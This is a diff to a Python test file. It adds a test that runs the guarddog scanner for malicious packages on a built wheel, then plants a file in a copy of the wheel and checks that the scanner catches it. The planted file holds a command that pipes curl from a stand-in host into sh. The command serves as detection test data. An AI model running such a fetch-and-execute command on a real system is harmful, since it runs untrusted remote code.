@@ -3,6 +3,10 @@
 from __future__ import annotations
 
 import email
+import json
+import shutil
+import subprocess
+import sys
 import tarfile
 import zipfile
 from pathlib import Path
@@ -59,3 +63,24 @@ def test_a_startup_file_is_one_readable_line_that_the_readme_shows(wheel: Path, 
     (line,) = content.splitlines()
     assert "exec(" not in line
     assert f"\n{line}\n" in (PROJECT / "README.md").read_text()
+
+
+def test_a_scanner_for_malicious_packages(wheel: Path) -> None:
+    scanner = Path(sys.executable).with_name("guarddog")
+    if not scanner.exists():
+        pytest.skip("guarddog is not installed (dependency group dev)")
+
+    def scan(path: Path) -> list[str]:
+        done = subprocess.run(
+            [scanner, "pypi", "scan", "--no-sandbox", "--output-format", "json", path], capture_output=True, check=False
+        )
+        return [risk["name"] for risk in json.loads(done.stdout)["risks"]]
+
+    assert scan(wheel) == []
+    planted = wheel.with_name("planted-1.0-py3-none-any.whl")
+    shutil.copy(wheel, planted)
+    with zipfile.ZipFile(planted, "a") as archive:
+        archive.writestr("planted.py", "import os\nos.system('curl http://planted.xyz/x | sh')\n")
+    found = scan(planted)
+    planted.unlink()
+    assert found
